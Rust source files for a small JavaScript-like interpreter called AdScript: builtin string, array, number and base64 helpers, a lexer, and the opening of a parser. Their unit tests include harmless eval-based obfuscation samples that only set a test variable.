            Ok(Value::str(s))
        }
        "trim" => Ok(Value::str(this.trim())),
        "toString" => Ok(Value::str(this)),
        other => Err(Value::str(format!("unknown string method {other}"))),
    }
}

fn array_method<H: Host>(
    interp: &mut Interpreter<H>,
    f: &str,
    this: Option<ObjId>,
    args: &[Value],
) -> Result<Value, Value> {
    let id = this.ok_or_else(|| Value::str("array method without receiver"))?;
    if interp.heap.get(id).kind != ObjKind::Array {
        return Err(Value::str("receiver is not an array"));
    }
    match f {
        "push" => {
            for a in args {
                interp.heap.get_mut(id).elements.push(a.clone());
            }
            Ok(Value::Num(interp.heap.get(id).elements.len() as f64))
        }
        "pop" => Ok(interp
            .heap
            .get_mut(id)
            .elements
            .pop()
            .unwrap_or(Value::Undefined)),
        "shift" => {
            let elements = &mut interp.heap.get_mut(id).elements;
            if elements.is_empty() {
                Ok(Value::Undefined)
            } else {
                Ok(elements.remove(0))
            }
        }
        "unshift" => {
            for (i, a) in args.iter().enumerate() {
                interp.heap.get_mut(id).elements.insert(i, a.clone());
            }
            Ok(Value::Num(interp.heap.get(id).elements.len() as f64))
        }
        "join" => {
            let sep = if args.is_empty() {
                ",".to_string()
            } else {
                interp.display_value(&args[0])
            };
            let parts: Vec<String> = interp
                .heap
                .get(id)
                .elements
                .clone()
                .iter()
                .map(|e| match e {
                    Value::Undefined | Value::Null => String::new(),
                    other => interp.display_value(other),
                })
                .collect();
            Ok(Value::str(parts.join(&sep)))
        }
        "reverse" => {
            interp.heap.get_mut(id).elements.reverse();
            Ok(Value::Obj(id))
        }
        "indexOf" => {
            let needle = args.first().cloned().unwrap_or(Value::Undefined);
            let pos = interp
                .heap
                .get(id)
                .elements
                .iter()
                .position(|e| e.strict_eq(&needle));
            Ok(Value::Num(pos.map(|p| p as f64).unwrap_or(-1.0)))
        }
        "slice" => {
            let elements = interp.heap.get(id).elements.clone();
            let len = elements.len();
            let resolve = |n: f64, default: usize| -> usize {
                if n.is_nan() {
                    default
                } else if n < 0.0 {
                    len.saturating_sub((-n) as usize)
                } else {
                    (n as usize).min(len)
                }
            };
            let a = args.first().map(|v| resolve(v.to_number(), 0)).unwrap_or(0);
            let b = args
                .get(1)
                .map(|v| resolve(v.to_number(), len))
                .unwrap_or(len);
            let slice = if a >= b {
                Vec::new()
            } else {
                elements[a..b].to_vec()
            };
            Ok(Value::Obj(interp.heap.alloc_array(slice)))
        }
        "concat" => {
            let mut elements = interp.heap.get(id).elements.clone();
            for a in args {
                match a {
                    Value::Obj(other) if interp.heap.get(*other).kind == ObjKind::Array => {
                        elements.extend(interp.heap.get(*other).elements.clone());
                    }
                    other => elements.push(other.clone()),
                }
            }
            Ok(Value::Obj(interp.heap.alloc_array(elements)))
        }
        "toString" => {
            let parts: Vec<String> = interp
                .heap
                .get(id)
                .elements
                .clone()
                .iter()
                .map(|e| interp.display_value(e))
                .collect();
            Ok(Value::str(parts.join(",")))
        }
        other => Err(Value::str(format!("unknown array method {other}"))),
    }
}

fn parse_int(t: &str, radix: Option<u32>) -> f64 {
    let (neg, t) = match t.strip_prefix('-') {
        Some(rest) => (true, rest),
        None => (false, t.strip_prefix('+').unwrap_or(t)),
    };
    let (radix, t) = match radix {
        Some(16) => (
            16,
            t.strip_prefix("0x")
                .or_else(|| t.strip_prefix("0X"))
                .unwrap_or(t),
        ),
        Some(r) => (r, t),
        None => {
            if let Some(hex) = t.strip_prefix("0x").or_else(|| t.strip_prefix("0X")) {
                (16, hex)
            } else {
                (10, t)
            }
        }
    };
    let end = t
        .char_indices()
        .find(|(_, c)| !c.is_digit(radix))
        .map(|(i, _)| i)
        .unwrap_or(t.len());
    if end == 0 {
        return f64::NAN;
    }
    let v = i64::from_str_radix(&t[..end], radix)
        .map(|v| v as f64)
        .unwrap_or(f64::NAN);
    if neg {
        -v
    } else {
        v
    }
}

/// Decodes `%XX` and `%uXXXX` escapes.
pub fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = String::with_capacity(s.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%' {
            if i + 6 <= bytes.len() && (bytes[i + 1] | 0x20) == b'u' {
                if let Ok(code) = u32::from_str_radix(&s[i + 2..i + 6], 16) {
                    if let Some(c) = char::from_u32(code) {
                        out.push(c);
                        i += 6;
                        continue;
                    }
                }
            }
            if i + 3 <= bytes.len() {
                if let Ok(code) = u8::from_str_radix(&s[i + 1..i + 3], 16) {
                    out.push(code as char);
                    i += 3;
                    continue;
                }
            }
        }
        let ch_len = match bytes[i] {
            0x00..=0x7f => 1,
            0xc0..=0xdf => 2,
            0xe0..=0xef => 3,
            _ => 4,
        };
        out.push_str(&s[i..i + ch_len]);
        i += ch_len;
    }
    out
}

/// Encodes non-alphanumeric ASCII as `%XX` (codepoints above 255 as `%uXXXX`).
pub fn percent_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        if c.is_ascii_alphanumeric() || "-_.~*@/".contains(c) {
            out.push(c);
        } else if (c as u32) < 256 {
            out.push_str(&format!("%{:02X}", c as u32));
        } else {
            out.push_str(&format!("%u{:04X}", c as u32));
        }
    }
    out
}

const B64_ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/// Standard base64 encoding.
pub fn base64_encode(data: &[u8]) -> String {
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for chunk in data.chunks(3) {
        let b0 = chunk[0] as u32;
        let b1 = chunk.get(1).copied().unwrap_or(0) as u32;
        let b2 = chunk.get(2).copied().unwrap_or(0) as u32;
        let n = (b0 << 16) | (b1 << 8) | b2;
        out.push(B64_ALPHABET[(n >> 18) as usize & 63] as char);
        out.push(B64_ALPHABET[(n >> 12) as usize & 63] as char);
        out.push(if chunk.len() > 1 {
            B64_ALPHABET[(n >> 6) as usize & 63] as char
        } else {
            '='
        });
        out.push(if chunk.len() > 2 {
            B64_ALPHABET[n as usize & 63] as char
        } else {
            '='
        });
    }
    out
}

/// Standard base64 decoding; `None` on malformed input. The decoded bytes are
/// interpreted latin-1 style (each byte one char), matching `atob`.
pub fn base64_decode(s: &str) -> Option<String> {
    let cleaned: Vec<u8> = s.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
    if !cleaned.len().is_multiple_of(4) && !cleaned.is_empty() {
        return None;
    }
    let mut out = String::new();
    for chunk in cleaned.chunks(4) {
        let mut n: u32 = 0;
        let mut pad = 0;
        for (i, &b) in chunk.iter().enumerate() {
            let v = if b == b'=' {
                if i < 2 {
                    return None;
                }
                pad += 1;
                0
            } else {
                B64_ALPHABET.iter().position(|&a| a == b)? as u32
            };
            n = (n << 6) | v;
        }
        out.push(((n >> 16) & 0xff) as u8 as char);
        if pad < 2 {
            out.push(((n >> 8) & 0xff) as u8 as char);
        }
        if pad < 1 {
            out.push((n & 0xff) as u8 as char);
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::interp::{Limits, NoHost};

    fn out(src: &str) -> String {
        let mut interp = Interpreter::new(NoHost, Limits::default(), 1);
        interp.run(src).unwrap();
        let v = interp
            .get_global("out")
            .cloned()
            .unwrap_or(Value::Undefined);
        interp.display_value(&v)
    }

    #[test]
    fn from_char_code() {
        assert_eq!(out("out = String.fromCharCode(72, 105);"), "Hi");
        assert_eq!(out("out = String.fromCharCode();"), "");
    }

    #[test]
    fn char_code_roundtrip() {
        assert_eq!(
            out(
                "var s = 'abc'; var t = ''; for (var i = 0; i < s.length; i++) { \
                 t = String.fromCharCode(s.charCodeAt(i) + 1) + t; } out = t;"
            ),
            "dcb"
        );
    }

    #[test]
    fn string_methods() {
        assert_eq!(out("out = 'Hello'.toLowerCase();"), "hello");
        assert_eq!(out("out = 'Hello'.toUpperCase();"), "HELLO");
        assert_eq!(out("out = 'a,b,c'.split(',').length;"), "3");
        assert_eq!(out("out = 'abcdef'.substring(2, 4);"), "cd");
        assert_eq!(out("out = 'abcdef'.substring(4, 2);"), "cd"); // swapped
        assert_eq!(out("out = 'abcdef'.substr(1, 3);"), "bcd");
        assert_eq!(out("out = 'abcdef'.slice(-2);"), "ef");
        assert_eq!(out("out = 'hello world'.indexOf('world');"), "6");
        assert_eq!(out("out = 'hello'.indexOf('z');"), "-1");
        assert_eq!(out("out = 'aXbXc'.replace('X', '-');"), "a-bXc");
        assert_eq!(out("out = '  pad  '.trim();"), "pad");
        assert_eq!(out("out = 'a'.concat('b', 'c');"), "abc");
        assert_eq!(out("out = 'xyz'.charAt(1);"), "y");
    }

    #[test]
    fn split_empty_separator() {
        assert_eq!(out("out = 'abc'.split('').join('|');"), "a|b|c");
    }

    #[test]
    fn math_functions() {
        assert_eq!(out("out = Math.floor(3.7);"), "3");
        assert_eq!(out("out = Math.ceil(3.2);"), "4");
        assert_eq!(out("out = Math.abs(-5);"), "5");
        assert_eq!(out("out = Math.max(1, 9, 4);"), "9");
        assert_eq!(out("out = Math.min(3, -2, 8);"), "-2");
        assert_eq!(out("out = Math.round(2.5);"), "3");
        assert_eq!(out("out = Math.pow(2, 10);"), "1024");
    }

    #[test]
    fn math_random_deterministic() {
        let run_once = || {
            let mut interp = Interpreter::new(NoHost, Limits::default(), 42);
            interp.run("out = Math.random();").unwrap();
            interp
                .get_global("out")
                .cloned()
                .map(|v| v.to_number())
                .unwrap()
        };
        let a = run_once();
        let b = run_once();
        assert_eq!(a, b);
        assert!((0.0..1.0).contains(&a));
    }

    #[test]
    fn parse_int_forms() {
        assert_eq!(out("out = parseInt('42');"), "42");
        assert_eq!(out("out = parseInt('42abc');"), "42");
        assert_eq!(out("out = parseInt('0x1F');"), "31");
        assert_eq!(out("out = parseInt('FF', 16);"), "255");
        assert_eq!(out("out = parseInt('-8');"), "-8");
        assert_eq!(out("out = parseInt('zzz');"), "NaN");
        assert_eq!(out("out = parseInt('101', 2);"), "5");
    }

    #[test]
    fn parse_float_prefix() {
        assert_eq!(out("out = parseFloat('3.5px');"), "3.5");
        assert_eq!(out("out = parseFloat('1e2x');"), "100");
        assert_eq!(out("out = parseFloat('no');"), "NaN");
    }

    #[test]
    fn unescape_decodes() {
        assert_eq!(out("out = unescape('%48%69');"), "Hi");
        assert_eq!(out("out = unescape('%u0041%u0042');"), "AB");
        assert_eq!(out("out = decodeURIComponent('a%20b');"), "a b");
    }

    #[test]
    fn escape_encode_roundtrip() {
        assert_eq!(out("out = unescape(escape('a b&c'));"), "a b&c");
    }

    #[test]
    fn atob_btoa_roundtrip() {
        assert_eq!(out("out = btoa('Man');"), "TWFu");
        assert_eq!(out("out = atob('TWFu');"), "Man");
        assert_eq!(
            out("out = atob(btoa('any carnal pleasure'));"),
            "any carnal pleasure"
        );
        assert_eq!(out("out = btoa('M');"), "TQ==");
        assert_eq!(out("out = atob('TQ==');"), "M");
    }

    #[test]
    fn obfuscated_payload_decodes_via_eval() {
        // A realistic obfuscation pattern: char-code assembly piped to eval.
        let src = r#"
            var c = [111, 117, 116, 32, 61, 32, 39, 112, 119, 110, 39, 59];
            var s = '';
            for (var i = 0; i < c.length; i++) { s += String.fromCharCode(c[i]); }
            eval(s);
        "#;
        assert_eq!(out(src), "pwn");
    }

    #[test]
    fn base64_layer_in_script() {
        // eval(atob(...)) — another common obfuscation layer.
        let payload = base64_encode(b"out = 7 * 6;");
        let src = format!("eval(atob('{payload}'));");
        assert_eq!(out(&src), "42");
    }

    #[test]
    fn array_methods() {
        assert_eq!(out("var a = [1,2,3]; out = a.indexOf(2);"), "1");
        assert_eq!(out("var a = [1,2,3]; out = a.indexOf(9);"), "-1");
        assert_eq!(
            out("var a = [1,2,3]; a.reverse(); out = a.join('');"),
            "321"
        );
        assert_eq!(
            out("var a = [1,2]; out = a.shift() + ':' + a.length;"),
            "1:1"
        );
        assert_eq!(out("var a = [2]; a.unshift(1); out = a.join(',');"), "1,2");
        assert_eq!(
            out("var a = [1,2,3,4]; out = a.slice(1, 3).join(',');"),
            "2,3"
        );
        assert_eq!(out("out = [1,2].concat([3,4], 5).join('');"), "12345");
    }

    #[test]
    fn number_and_boolean_casts() {
        assert_eq!(out("out = Number('42') + 1;"), "43");
        assert_eq!(out("out = Boolean('');"), "false");
        assert_eq!(out("out = Boolean('x');"), "true");
        assert_eq!(out("out = isNaN('abc');"), "true");
        assert_eq!(out("out = isNaN('12');"), "false");
    }

    #[test]
    fn base64_helpers_direct() {
        assert_eq!(base64_encode(b""), "");
        assert_eq!(base64_decode(""), Some(String::new()));
        assert_eq!(base64_decode("!!!!"), None);
        assert_eq!(base64_decode("TWFu"), Some("Man".to_string()));
    }

    #[test]
    fn number_to_string_radix() {
        assert_eq!(out("out = (255).toString(16);"), "ff");
        assert_eq!(out("out = (255).toString();"), "255");
        assert_eq!(out("out = (8).toString(2);"), "1000");
        assert_eq!(out("out = (35).toString(36);"), "z");
        assert_eq!(out("var n = -255; out = n.toString(16);"), "-ff");
    }

    #[test]
    fn number_to_fixed() {
        assert_eq!(out("out = (3.14159).toFixed(2);"), "3.14");
        assert_eq!(out("out = (5).toFixed(0);"), "5");
        assert_eq!(out("out = (1.5).toFixed(3);"), "1.500");
    }

    #[test]
    fn radix_obfuscation_roundtrip() {
        // Hex-string assembly, a common obfuscation idiom.
        assert_eq!(
            out("var code = ''; var parts = [111, 117, 116, 61, 55, 55]; \
                 for (var i = 0; i < parts.length; i++) { \
                   code += String.fromCharCode(parseInt(parts[i].toString(16), 16)); } \
                 eval(code);"),
            "77"
        );
    }

    #[test]
    fn percent_decode_malformed_passthrough() {
        assert_eq!(percent_decode("%ZZ"), "%ZZ");
        assert_eq!(percent_decode("100%"), "100%");
    }
}
