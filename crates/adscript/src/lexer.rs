//! AdScript lexer.

use std::fmt;

/// Token kinds produced by the lexer.
#[derive(Debug, Clone, PartialEq)]
pub enum Tok {
    /// Identifier (not a keyword).
    Ident(String),
    /// Numeric literal.
    Num(f64),
    /// String literal (escapes resolved).
    Str(String),
    /// Keyword.
    Kw(Kw),
    /// Punctuator / operator.
    Punct(Punct),
    /// End of input.
    Eof,
}

/// Keywords.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum Kw {
    Var,
    Function,
    Return,
    If,
    Else,
    While,
    Do,
    For,
    True,
    False,
    Null,
    Undefined,
    New,
    Typeof,
    This,
    Break,
    Continue,
    Try,
    Catch,
    Finally,
    Throw,
    In,
    Instanceof,
    Delete,
    Void,
    Switch,
    Case,
    Default,
}

/// Punctuators and operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[allow(missing_docs)]
pub enum Punct {
    LParen,
    RParen,
    LBrace,
    RBrace,
    LBracket,
    RBracket,
    Semi,
    Comma,
    Dot,
    Colon,
    Question,
    Assign,
    PlusAssign,
    MinusAssign,
    StarAssign,
    SlashAssign,
    PercentAssign,
    Plus,
    Minus,
    Star,
    Slash,
    Percent,
    PlusPlus,
    MinusMinus,
    EqEq,
    NotEq,
    EqEqEq,
    NotEqEq,
    Lt,
    Gt,
    Le,
    Ge,
    AndAnd,
    OrOr,
    Not,
    BitAnd,
    BitOr,
    BitXor,
    Shl,
    Shr,
    UShr,
    Tilde,
}

impl fmt::Display for Tok {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Tok::Ident(s) => write!(f, "identifier `{s}`"),
            Tok::Num(n) => write!(f, "number {n}"),
            Tok::Str(_) => write!(f, "string literal"),
            Tok::Kw(k) => write!(f, "keyword `{k:?}`"),
            Tok::Punct(p) => write!(f, "`{p:?}`"),
            Tok::Eof => write!(f, "end of input"),
        }
    }
}

/// A token plus its source position (byte offset), for error messages.
#[derive(Debug, Clone, PartialEq)]
pub struct SpannedTok {
    /// The token.
    pub tok: Tok,
    /// Byte offset where the token starts.
    pub offset: usize,
}

/// Lexer error: message plus byte offset.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LexError {
    /// Description of the problem.
    pub message: String,
    /// Byte offset of the problem.
    pub offset: usize,
}

/// Lexes an entire source string.
pub fn lex(src: &str) -> Result<Vec<SpannedTok>, LexError> {
    let bytes = src.as_bytes();
    let mut toks = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let c = bytes[i];
        // Whitespace.
        if c.is_ascii_whitespace() {
            i += 1;
            continue;
        }
        // Comments.
        if c == b'/' && i + 1 < bytes.len() {
            if bytes[i + 1] == b'/' {
                while i < bytes.len() && bytes[i] != b'\n' {
                    i += 1;
                }
                continue;
            }
            if bytes[i + 1] == b'*' {
                let start = i;
                i += 2;
                loop {
                    if i + 1 >= bytes.len() {
                        return Err(LexError {
                            message: "unterminated block comment".into(),
                            offset: start,
                        });
                    }
                    if bytes[i] == b'*' && bytes[i + 1] == b'/' {
                        i += 2;
                        break;
                    }
                    i += 1;
                }
                continue;
            }
        }
        let start = i;
        // Identifiers and keywords.
        if c.is_ascii_alphabetic() || c == b'_' || c == b'$' {
            while i < bytes.len()
                && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'_' || bytes[i] == b'$')
            {
                i += 1;
            }
            let word = &src[start..i];
            let tok = match word {
                "var" | "let" | "const" => Tok::Kw(Kw::Var),
                "function" => Tok::Kw(Kw::Function),
                "return" => Tok::Kw(Kw::Return),
                "if" => Tok::Kw(Kw::If),
                "else" => Tok::Kw(Kw::Else),
                "while" => Tok::Kw(Kw::While),
                "do" => Tok::Kw(Kw::Do),
                "for" => Tok::Kw(Kw::For),
                "true" => Tok::Kw(Kw::True),
                "false" => Tok::Kw(Kw::False),
                "null" => Tok::Kw(Kw::Null),
                "undefined" => Tok::Kw(Kw::Undefined),
                "new" => Tok::Kw(Kw::New),
                "typeof" => Tok::Kw(Kw::Typeof),
                "this" => Tok::Kw(Kw::This),
                "break" => Tok::Kw(Kw::Break),
                "continue" => Tok::Kw(Kw::Continue),
                "try" => Tok::Kw(Kw::Try),
                "catch" => Tok::Kw(Kw::Catch),
                "finally" => Tok::Kw(Kw::Finally),
                "throw" => Tok::Kw(Kw::Throw),
                "in" => Tok::Kw(Kw::In),
                "instanceof" => Tok::Kw(Kw::Instanceof),
                "delete" => Tok::Kw(Kw::Delete),
                "void" => Tok::Kw(Kw::Void),
                "switch" => Tok::Kw(Kw::Switch),
                "case" => Tok::Kw(Kw::Case),
                "default" => Tok::Kw(Kw::Default),
                _ => Tok::Ident(word.to_string()),
            };
            toks.push(SpannedTok { tok, offset: start });
            continue;
        }
        // Numbers.
        if c.is_ascii_digit() || (c == b'.' && i + 1 < bytes.len() && bytes[i + 1].is_ascii_digit())
        {
            // Hex?
            if c == b'0' && i + 1 < bytes.len() && (bytes[i + 1] | 0x20) == b'x' {
                i += 2;
                let hex_start = i;
                while i < bytes.len() && bytes[i].is_ascii_hexdigit() {
                    i += 1;
                }
                if i == hex_start {
                    return Err(LexError {
                        message: "missing hex digits".into(),
                        offset: start,
                    });
                }
                let val = u64::from_str_radix(&src[hex_start..i], 16).map_err(|_| LexError {
                    message: "hex literal too large".into(),
                    offset: start,
                })?;
                toks.push(SpannedTok {
                    tok: Tok::Num(val as f64),
                    offset: start,
                });
                continue;
            }
            let mut seen_dot = false;
            let mut seen_exp = false;
            while i < bytes.len() {
                let b = bytes[i];
                if b.is_ascii_digit() {
                    i += 1;
                } else if b == b'.' && !seen_dot && !seen_exp {
                    seen_dot = true;
                    i += 1;
                } else if (b | 0x20) == b'e' && !seen_exp && i > start {
                    seen_exp = true;
                    i += 1;
                    if i < bytes.len() && (bytes[i] == b'+' || bytes[i] == b'-') {
                        i += 1;
                    }
                } else {
                    break;
                }
            }
            let n: f64 = src[start..i].parse().map_err(|_| LexError {
                message: format!("bad numeric literal `{}`", &src[start..i]),
                offset: start,
            })?;
            toks.push(SpannedTok {
                tok: Tok::Num(n),
                offset: start,
            });
            continue;
        }
        // Strings.
        if c == b'"' || c == b'\'' {
            let quote = c;
            i += 1;
            let mut s = String::new();
            loop {
                if i >= bytes.len() {
                    return Err(LexError {
                        message: "unterminated string literal".into(),
                        offset: start,
                    });
                }
                let b = bytes[i];
                if b == quote {
                    i += 1;
                    break;
                }
                if b == b'\\' {
                    i += 1;
                    if i >= bytes.len() {
                        return Err(LexError {
                            message: "unterminated escape".into(),
                            offset: start,
                        });
                    }
                    let esc = bytes[i];
                    if esc >= 0x80 {
                        // Escaped multibyte character: copy it whole.
                        let ch = src[i..].chars().next().unwrap_or('\u{fffd}');
                        s.push(ch);
                        i += ch.len_utf8();
                        continue;
                    }
                    i += 1;
                    match esc {
                        b'n' => s.push('\n'),
                        b't' => s.push('\t'),
                        b'r' => s.push('\r'),
                        b'0' => s.push('\0'),
                        b'\\' => s.push('\\'),
                        b'\'' => s.push('\''),
                        b'"' => s.push('"'),
                        b'/' => s.push('/'),
                        b'b' => s.push('\u{8}'),
                        b'f' => s.push('\u{c}'),
                        b'v' => s.push('\u{b}'),
                        b'x' => {
                            let hex = src.get(i..i + 2).ok_or(LexError {
                                message: "truncated \\x escape".into(),
                                offset: start,
                            })?;
                            let code = u8::from_str_radix(hex, 16).map_err(|_| LexError {
                                message: "bad \\x escape".into(),
                                offset: i,
                            })?;
                            s.push(code as char);
                            i += 2;
                        }
                        b'u' => {
                            let hex = src.get(i..i + 4).ok_or(LexError {
                                message: "truncated \\u escape".into(),
                                offset: start,
                            })?;
                            let code = u32::from_str_radix(hex, 16).map_err(|_| LexError {
                                message: "bad \\u escape".into(),
                                offset: i,
                            })?;
                            s.push(char::from_u32(code).unwrap_or('\u{fffd}'));
                            i += 4;
                        }
                        other => s.push(other as char),
                    }
                    continue;
                }
                // Copy a full UTF-8 scalar.
                let ch_len = match b {
                    0x00..=0x7f => 1,
                    0xc0..=0xdf => 2,
                    0xe0..=0xef => 3,
                    _ => 4,
                };
                s.push_str(&src[i..i + ch_len]);
                i += ch_len;
            }
            toks.push(SpannedTok {
                tok: Tok::Str(s),
                offset: start,
            });
            continue;
        }
        // Punctuators (longest match first).
        let three: &str = src.get(i..i + 3).unwrap_or("");
        let two: &str = src.get(i..i + 2).unwrap_or("");
        let p = match three {
            "===" => Some((Punct::EqEqEq, 3)),
            "!==" => Some((Punct::NotEqEq, 3)),
            ">>>" => Some((Punct::UShr, 3)),
            _ => None,
        }
        .or(match two {
            "==" => Some((Punct::EqEq, 2)),
            "!=" => Some((Punct::NotEq, 2)),
            "<=" => Some((Punct::Le, 2)),
            ">=" => Some((Punct::Ge, 2)),
            "&&" => Some((Punct::AndAnd, 2)),
            "||" => Some((Punct::OrOr, 2)),
            "++" => Some((Punct::PlusPlus, 2)),
            "--" => Some((Punct::MinusMinus, 2)),
            "+=" => Some((Punct::PlusAssign, 2)),
            "-=" => Some((Punct::MinusAssign, 2)),
            "*=" => Some((Punct::StarAssign, 2)),
            "/=" => Some((Punct::SlashAssign, 2)),
            "%=" => Some((Punct::PercentAssign, 2)),
            "<<" => Some((Punct::Shl, 2)),
            ">>" => Some((Punct::Shr, 2)),
            _ => None,
        })
        .or(match c {
            b'(' => Some((Punct::LParen, 1)),
            b')' => Some((Punct::RParen, 1)),
            b'{' => Some((Punct::LBrace, 1)),
            b'}' => Some((Punct::RBrace, 1)),
            b'[' => Some((Punct::LBracket, 1)),
            b']' => Some((Punct::RBracket, 1)),
            b';' => Some((Punct::Semi, 1)),
            b',' => Some((Punct::Comma, 1)),
            b'.' => Some((Punct::Dot, 1)),
            b':' => Some((Punct::Colon, 1)),
            b'?' => Some((Punct::Question, 1)),
            b'=' => Some((Punct::Assign, 1)),
            b'+' => Some((Punct::Plus, 1)),
            b'-' => Some((Punct::Minus, 1)),
            b'*' => Some((Punct::Star, 1)),
            b'/' => Some((Punct::Slash, 1)),
            b'%' => Some((Punct::Percent, 1)),
            b'<' => Some((Punct::Lt, 1)),
            b'>' => Some((Punct::Gt, 1)),
            b'!' => Some((Punct::Not, 1)),
            b'&' => Some((Punct::BitAnd, 1)),
            b'|' => Some((Punct::BitOr, 1)),
            b'^' => Some((Punct::BitXor, 1)),
            b'~' => Some((Punct::Tilde, 1)),
            _ => None,
        });
        match p {
            Some((punct, len)) => {
                toks.push(SpannedTok {
                    tok: Tok::Punct(punct),
                    offset: start,
                });
                i += len;
            }
            None => {
                return Err(LexError {
                    message: format!(
                        "unexpected character `{}`",
                        src[i..].chars().next().unwrap()
                    ),
                    offset: i,
                })
            }
        }
    }
    toks.push(SpannedTok {
        tok: Tok::Eof,
        offset: src.len(),
    });
    Ok(toks)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(src: &str) -> Vec<Tok> {
        lex(src).unwrap().into_iter().map(|t| t.tok).collect()
    }

    #[test]
    fn keywords_and_idents() {
        assert_eq!(
            kinds("var x function foo"),
            vec![
                Tok::Kw(Kw::Var),
                Tok::Ident("x".into()),
                Tok::Kw(Kw::Function),
                Tok::Ident("foo".into()),
                Tok::Eof
            ]
        );
    }

    #[test]
    fn let_and_const_alias_var() {
        assert_eq!(kinds("let x")[0], Tok::Kw(Kw::Var));
        assert_eq!(kinds("const y")[0], Tok::Kw(Kw::Var));
    }

    #[test]
    fn dollar_and_underscore_idents() {
        assert_eq!(kinds("$a _b c$d")[0], Tok::Ident("$a".into()));
        assert_eq!(kinds("$a _b c$d")[1], Tok::Ident("_b".into()));
    }

    #[test]
    fn numbers() {
        assert_eq!(kinds("42")[0], Tok::Num(42.0));
        assert_eq!(kinds("3.25")[0], Tok::Num(3.25));
        assert_eq!(kinds("1e3")[0], Tok::Num(1000.0));
        assert_eq!(kinds("2.5e-1")[0], Tok::Num(0.25));
        assert_eq!(kinds("0xFF")[0], Tok::Num(255.0));
        assert_eq!(kinds(".5")[0], Tok::Num(0.5));
    }

    #[test]
    fn strings_with_escapes() {
        assert_eq!(kinds(r#""a\nb""#)[0], Tok::Str("a\nb".into()));
        assert_eq!(kinds(r"'it\'s'")[0], Tok::Str("it's".into()));
        assert_eq!(kinds(r#""\x41\x42""#)[0], Tok::Str("AB".into()));
        assert_eq!(kinds(r#""A""#)[0], Tok::Str("A".into()));
    }

    #[test]
    fn unterminated_string_errors() {
        assert!(lex("\"abc").is_err());
        assert!(lex("'abc\\").is_err());
    }

    #[test]
    fn comments_skipped() {
        assert_eq!(
            kinds("a // line\nb /* block */ c"),
            vec![
                Tok::Ident("a".into()),
                Tok::Ident("b".into()),
                Tok::Ident("c".into()),
                Tok::Eof
            ]
        );
    }

    #[test]
    fn unterminated_block_comment_errors() {
        assert!(lex("/* no end").is_err());
    }

    #[test]
    fn operators_longest_match() {
        assert_eq!(
            kinds("a === b !== c == d != e <= >= && || ++ -- += >>>"),
            vec![
                Tok::Ident("a".into()),
                Tok::Punct(Punct::EqEqEq),
                Tok::Ident("b".into()),
                Tok::Punct(Punct::NotEqEq),
                Tok::Ident("c".into()),
                Tok::Punct(Punct::EqEq),
                Tok::Ident("d".into()),
                Tok::Punct(Punct::NotEq),
                Tok::Ident("e".into()),
                Tok::Punct(Punct::Le),
                Tok::Punct(Punct::Ge),
                Tok::Punct(Punct::AndAnd),
                Tok::Punct(Punct::OrOr),
                Tok::Punct(Punct::PlusPlus),
                Tok::Punct(Punct::MinusMinus),
                Tok::Punct(Punct::PlusAssign),
                Tok::Punct(Punct::UShr),
                Tok::Eof
            ]
        );
    }

    #[test]
    fn member_access_and_calls() {
        assert_eq!(
            kinds("document.write(x)"),
            vec![
                Tok::Ident("document".into()),
                Tok::Punct(Punct::Dot),
                Tok::Ident("write".into()),
                Tok::Punct(Punct::LParen),
                Tok::Ident("x".into()),
                Tok::Punct(Punct::RParen),
                Tok::Eof
            ]
        );
    }

    #[test]
    fn unknown_character_errors() {
        let err = lex("a @ b").unwrap_err();
        assert_eq!(err.offset, 2);
    }

    #[test]
    fn offsets_recorded() {
        let toks = lex("ab cd").unwrap();
        assert_eq!(toks[0].offset, 0);
        assert_eq!(toks[1].offset, 3);
    }

    #[test]
    fn unicode_string_content() {
        assert_eq!(kinds("'caf\u{e9}'")[0], Tok::Str("caf\u{e9}".into()));
    }
}
