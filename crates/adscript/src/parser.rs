//! AdScript parser: recursive descent with precedence-climbing expressions.
//!
//! Identifiers and property names are interned as they are parsed — every
//! occurrence of the same name in a program shares one `Arc<str>` — and the
//! distinct names become [`Program::symbols`]. After parsing, the resolver
//! (`crate::resolve`) binds statically-known variable references to
//! scope/slot indices.

use crate::ast::*;
use crate::lexer::{lex, Kw, Punct, SpannedTok, Tok};
use crate::ScriptError;
use std::collections::HashSet;
use std::sync::Arc;

/// Parses (and resolves) a full program.
pub fn parse_program(src: &str) -> Result<Program, ScriptError> {
    let toks =
        lex(src).map_err(|e| ScriptError::Parse(format!("{} at byte {}", e.message, e.offset)))?;
    let mut p = Parser {
        toks,
        pos: 0,
        syms: HashSet::new(),
    };
    let mut body = Vec::new();
    while !p.at_eof() {
        body.push(p.statement()?);
    }
    let mut symbols: Vec<Name> = p.syms.into_iter().collect();
    symbols.sort();
    let mut program = Program { body, symbols };
    crate::resolve::resolve_program(&mut program);
    Ok(program)
}

struct Parser {
    toks: Vec<SpannedTok>,
    pos: usize,
    /// Interner: one `Arc<str>` per distinct name.
    syms: HashSet<Name>,
}

impl Parser {
    fn intern(&mut self, s: &str) -> Name {
        if let Some(n) = self.syms.get(s) {
            return n.clone();
        }
        let n: Name = Arc::from(s);
        self.syms.insert(n.clone());
        n
    }

    fn peek(&self) -> &Tok {
        &self.toks[self.pos].tok
    }

    fn peek2(&self) -> &Tok {
        self.toks
            .get(self.pos + 1)
            .map(|t| &t.tok)
            .unwrap_or(&Tok::Eof)
    }

    fn peek3(&self) -> &Tok {
        self.toks
            .get(self.pos + 2)
            .map(|t| &t.tok)
            .unwrap_or(&Tok::Eof)
    }

    fn at_eof(&self) -> bool {
        matches!(self.peek(), Tok::Eof)
    }

